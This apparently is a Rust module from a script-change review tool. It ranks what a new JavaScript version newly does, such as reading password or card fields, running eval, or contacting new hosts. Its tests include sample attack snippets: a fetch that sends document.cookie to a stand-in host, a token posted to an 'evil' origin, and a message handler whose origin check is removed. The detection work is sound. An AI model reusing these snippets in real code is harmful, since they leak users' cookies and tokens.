//! The facts in one line each, the most telling first. Facts, not a verdict: there is no score.

use pinfold_triage::{
    Capability, Change, Diff, Fact, Findings, Host, Loss, Novelty, SaidVersion, Site, Together,
};

use super::super::words::counted;
use super::Place;
use super::contents::in_short;
use super::difference::{Difference, Shown};
use crate::text::Text;

/// Hosts in a summary.
const HOSTS: usize = 4;
/// Hosts in one line of a list: whoever names many pushes nothing else out of it.
const HOSTS_IN_A_LINE: usize = 1;
/// Capabilities in a summary.
const FACTS: usize = 7;
/// Of those that are done with something else than before, and of those that are done at more places.
const OTHERS: usize = 4;
/// Of what is done at no more places than before.
const SOMETHING_ELSE: &str = "with something else than before";
/// Points in one line of a list.
const IN_A_LINE: usize = 3;
/// Characters of each.
const LINE: usize = 160;
/// What a reviewer asks about first; whatever is not named here comes behind, in the order of the groups.
const TELLING: [Capability; 23] = [
    Capability::CardField,
    Capability::PasswordField,
    Capability::Miner,
    Capability::ShuffledTable,
    Capability::Eval,
    Capability::FunctionConstructor,
    Capability::StringTimer,
    Capability::KeyListener,
    Capability::FormListener,
    Capability::UncheckedMessage,
    Capability::Clipboard,
    Capability::Credentials,
    Capability::InjectedScript,
    Capability::DynamicImport,
    Capability::ServiceWorker,
    Capability::Beacon,
    Capability::WebSocket,
    Capability::WebRtc,
    Capability::HiddenGlobal,
    Capability::UnknownGlobal,
    Capability::Decoder,
    Capability::Debugger,
    Capability::Automation,
];

/// How much a line says that is new, so that its mark shows it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::review) enum Weight {
    /// It newly reaches for data, sends, runs text, hides, or has lost a guard.
    Heavy,
    Plain,
    /// It is no deed.
    Light,
}

impl Weight {
    /// What the line is called in the page's style.
    pub(in crate::review) fn class(self) -> &'static str {
        match self {
            Self::Heavy => "heavy",
            Self::Plain => "plain",
            Self::Light => "light",
        }
    }
}

/// One line.
pub(in crate::review) struct Point {
    pub(in crate::review) weight: Weight,
    pub(in crate::review) text: String,
    /// What it is about, as it stands there.
    pub(in crate::review) what: Option<Text>,
    /// What else is to be known of it.
    pub(in crate::review) tags: Vec<Text>,
    pub(in crate::review) place: Option<Place>,
    /// What stands there.
    pub(in crate::review) excerpt: Option<Text>,
}

impl Point {
    fn as_text(&self) -> String {
        let mut text = self.text.clone();
        if let Some(what) = &self.what {
            text.push_str(&format!(" {what}"));
        }
        if !self.tags.is_empty() {
            let tags: Vec<_> = self.tags.iter().map(Text::to_string).collect();
            text.push_str(&format!(" ({})", tags.join(", ")));
        }
        text
    }

    fn plain(text: impl Into<String>) -> Self {
        Self {
            weight: Weight::Plain,
            text: text.into(),
            what: None,
            tags: Vec::new(),
            place: None,
            excerpt: None,
        }
    }
}

pub(super) fn points(findings: &Findings, shown: &Shown) -> Vec<Point> {
    let together = findings.together.iter().map(|together| of_together(together, shown));
    together.chain(telling(findings, shown, HOSTS)).collect()
}

/// What one function newly does.
fn of_together(together: &Together, shown: &Shown) -> Point {
    let text = Text::of(&together.text()).to_string();
    Point { weight: Weight::Heavy, place: Some(shown.place(together.line)), ..Point::plain(text) }
}

/// With so many hosts, the most telling ones.
fn telling(findings: &Findings, shown: &Shown, named: usize) -> Vec<Point> {
    let told: Vec<_> = hosts(&findings.hosts).take(named).collect();
    let mut points: Vec<_> = told.iter().map(|host| of_host(host, shown)).collect();
    let more = findings.hosts.len().saturating_sub(named);
    if more > 0 && named >= HOSTS {
        points.push(Point::plain(format!("names {} more", counted(more as u64, "new host"))));
    }
    points.extend(findings.contents.iter().flat_map(|contents| in_short(contents)).map(Point::plain));
    points.extend(findings.losses.iter().map(|loss| of_loss(loss, shown)));
    // Said beside its host, and there is no other place.
    let is_said = |fact: &Fact| {
        fact.sites.len() == 1 && told.iter().any(|host| host.reached_by == Some(fact.capability))
    };
    let mut novel = of_novelty(findings, Novelty::New);
    novel.retain(|fact| !is_said(fact));
    points.extend(novel.iter().take(FACTS).map(|fact| of_fact(fact, shown)));
    if novel.len() > FACTS {
        let rest: Vec<_> = novel.iter().skip(FACTS).map(|fact| fact.capability.text()).collect();
        points.push(Point::plain(rest.join("; ")));
    }
    let mut other = of_novelty(findings, Novelty::Other);
    other.retain(|fact| !is_said(fact));
    points.extend(other.iter().take(OTHERS).map(|fact| of_known(fact, SOMETHING_ELSE, shown)));
    points.extend(together(SOMETHING_ELSE, other.get(OTHERS..).unwrap_or_default()));
    let more = of_novelty(findings, Novelty::More);
    points.extend(more.iter().take(OTHERS).map(|fact| at_more_places(fact, shown)));
    points.extend(together("at more places than before", more.get(OTHERS..).unwrap_or_default()));
    if points.is_empty() {
        let nothing = nothing(findings).map(Point::plain);
        points.extend(nothing.map(|point| Point { weight: Weight::Light, ..point }));
    }
    points.extend(findings.version.as_ref().map(said));
    points
}

/// The first of them in one line, for a list of many: with words of the attacker, bounded.
pub(super) fn in_a_line(findings: &Findings) -> String {
    let nowhere = Difference::default();
    let mut points = telling(findings, &nowhere.shown(&Diff::default()), HOSTS_IN_A_LINE);
    if matches!(findings.change, Change::Same | Change::Trivia | Change::Names) {
        // The kind of change says it.
        points.retain(|point| Some(&*point.text) != nothing(findings));
    }
    let mut parts: Vec<_> = points.iter().take(IN_A_LINE).map(Point::as_text).collect();
    match findings.change {
        Change::Same | Change::Trivia | Change::Names | Change::Data => {
            parts.insert(0, findings.change.text().to_owned());
        }
        Change::New => parts.insert(0, "no verified version to compare with".to_owned()),
        Change::Code | Change::Contents | Change::Unknown => {}
    }
    let hosts = findings.hosts.len().saturating_sub(HOSTS_IN_A_LINE);
    let more = points.len().saturating_sub(IN_A_LINE) + hosts;
    if more > 0 {
        parts.push(format!("and {more} more"));
    }
    parts.extend(findings.not_analysed.as_ref().map(|why| format!("not analysed in full: {}", why.text())));
    parts.iter().map(|part| part.chars().take(LINE).collect::<String>()).collect::<Vec<_>>().join("; ")
}

/// Facts of one kind, the most telling first.
fn of_novelty(findings: &Findings, novelty: Novelty) -> Vec<&Fact> {
    let mut facts: Vec<_> = findings.facts.iter().filter(|fact| fact.novelty() == novelty).collect();
    facts.sort_by_key(|fact| {
        TELLING.iter().position(|told| *told == fact.capability).unwrap_or(TELLING.len())
    });
    facts
}

fn together(how: &str, facts: &[&Fact]) -> Option<Point> {
    let names: Vec<_> = facts.iter().map(|fact| fact.capability.text()).collect();
    (!names.is_empty()).then(|| Point::plain(format!("{how}: {}", names.join("; "))))
}

/// Those that hide and those that imitate first, and then those that something goes to.
fn hosts(hosts: &[Host]) -> impl Iterator<Item = &Host> {
    let mut sorted: Vec<&Host> = hosts.iter().collect();
    sorted.sort_by_key(|host| (host.imitates.is_none(), !host.hidden, host.reached_by.is_none()));
    sorted.into_iter()
}

fn of_host(host: &Host, shown: &Shown) -> Point {
    let text = match host.reached_by {
        Some(capability) => format!("{}, where it names a new host:", capability.text()),
        None => "names a new host:".to_owned(),
    };
    let hidden = host.hidden.then(|| Text::of("hidden: not to be read in the code as it is"));
    let imitates = host.imitates.as_deref().map(|imitates| Text::of(&format!("looks like {imitates}")));
    let is_heavy = host.hidden || host.imitates.is_some() || host.reached_by.is_some();
    Point {
        weight: if is_heavy { Weight::Heavy } else { Weight::Plain },
        text,
        what: Some(Text::of(&host.host)),
        tags: hidden.into_iter().chain(imitates).collect(),
        place: host.line.map(|line| shown.place(line)),
        excerpt: host.excerpt.as_deref().map(Text::of_code),
    }
}

fn of_fact(fact: &Fact, shown: &Shown) -> Point {
    let first = fact.sites.first();
    let means = first.and_then(|site| site.means.as_deref());
    let is_heavy = fact.novelty() == Novelty::New && fact.capability.has_weight();
    Point {
        weight: if is_heavy { Weight::Heavy } else { Weight::Plain },
        text: fact.capability.text().to_owned(),
        what: None,
        tags: means.map(|means| Text::of(&format!("that is {means}"))).into_iter().collect(),
        place: first.map(|site| shown.place(site.line)),
        excerpt: first.map(|site| Text::of_code(&site.excerpt)),
    }
}

/// What was done before too, and how it is done now.
fn of_known(fact: &Fact, how: &str, shown: &Shown) -> Point {
    let text = format!("{}, {how}", fact.capability.text());
    Point { text, excerpt: None, ..of_fact(fact, shown) }
}

fn at_more_places(fact: &Fact, shown: &Shown) -> Point {
    let more = fact.new.saturating_sub(fact.reviewed) as u64;
    of_known(fact, &format!("at {} than before", counted(more, "more place")), shown)
}

fn of_loss(loss: &Loss, shown: &Shown) -> Point {
    // The line that differs, where that is another one: the call did not change.
    let line = |site: &Site| site.differs.as_ref().map_or(site.line, |there| there.line);
    let place = loss.others.first().map(|site| shown.place(line(site)));
    Point { weight: Weight::Heavy, place, ..Point::plain(loss.text()) }
}

fn said(version: &SaidVersion) -> Point {
    let SaidVersion { reviewed, new } = version;
    let tag = if reviewed == new { "as the verified one".to_owned() } else { format!("was {reviewed}") };
    let tags = vec![Text::of(&tag)];
    Point { weight: Weight::Light, what: Some(Text::of(new)), tags, ..Point::plain("says that it is") }
}

/// What is said where nothing was found.
pub(super) fn nothing(findings: &Findings) -> Option<&'static str> {
    if findings.not_analysed.is_some() {
        return None;
    }
    match findings.change {
        Change::Same | Change::Trivia | Change::Names => Some("does what the verified version does"),
        Change::Data | Change::Code => Some("names no new host, and has no new capability"),
        Change::New => Some("names no host, and has none of the capabilities that are looked for"),
        Change::Contents | Change::Unknown => None,
    }
}

#[cfg(test)]
mod tests {
    use pinfold_triage::{Limits, compare};

    use super::*;

    #[test]
    fn what_is_done_at_more_places_has_a_line_of_its_own_with_its_place() {
        let old = "fetch('/a')";
        let new = "fetch('/a'); fetch('/b'); fetch('/c')";
        let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
        let difference = Difference::of(&findings);
        let points = points(&findings, &difference.shown(&findings.diff));
        assert_eq!(points[0].text, "sends or loads with fetch, at 2 more places than before");
        assert_eq!(points[0].place.as_ref().and_then(|place| place.link.as_deref()), Some("#n2"));
    }

    #[test]
    fn what_one_function_does_stands_first_and_a_host_that_is_reached_is_heavy() {
        let new =
            "show(1); var to = 'https://a.test/';\nfunction send() { fetch(to, { body: document.cookie }) }";
        let findings = compare(Some(b"show(1);"), new.as_bytes(), Limits::default(), &|_| None);
        let difference = Difference::of(&findings);
        let points = points(&findings, &difference.shown(&findings.diff));
        assert_eq!(
            points[0].text,
            "one new function, `send` at lines 3–5, newly: reads or sets cookies; sends or loads with fetch, to a.test"
        );
        assert_eq!(points[0].place.as_ref().and_then(|place| place.link.as_deref()), Some("#n3"));
        assert_eq!(points[1].text, "sends or loads with fetch, where it names a new host:");
        assert!(points[..2].iter().all(|point| point.weight == Weight::Heavy));
    }

    #[test]
    fn a_message_is_heavy_where_anybody_or_a_new_origin_gets_it() {
        let weights = |posts: &str| {
            let new = format!("show(1); {posts};");
            let findings = compare(Some(b"show(1);"), new.as_bytes(), Limits::default(), &|_| None);
            let difference = Difference::of(&findings);
            let points = points(&findings, &difference.shown(&findings.diff));
            points.into_iter().map(|point| (point.weight, point.text)).collect::<Vec<_>>()
        };
        let own = "posts a message to the window that it runs in".to_owned();
        assert_eq!(weights("window.postMessage(token, '*')"), [(Weight::Plain, own)]);
        let any = "posts a message to any origin, or to one that cannot be read".to_owned();
        assert_eq!(weights("top.postMessage(token, '*')"), [(Weight::Heavy, any)]);
        let new = "posts a message to another origin, where it names a new host:".to_owned();
        assert_eq!(weights("w.postMessage(token, 'https://in.evil.test')"), [(Weight::Heavy, new)]);
    }

    #[test]
    fn many_hosts_push_nothing_else_out_of_a_line() {
        let hosts = "f('https://a.test/', 'https://b.test/', 'https://c.test/', 'https://d.test/');";
        let old = "onmessage = e => { if (e.origin !== O) return; run(e.data) }";
        let new = format!("{hosts} onmessage = e => {{ run(e.data, form.querySelector('#password')) }}");

        let line = in_a_line(&compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None));

        assert!(line.contains("a.test") && line.contains("a check of a message's origin is gone"), "{line}");
        assert!(line.contains("names password fields") && line.ends_with("and 4 more"), "{line}");
    }
}
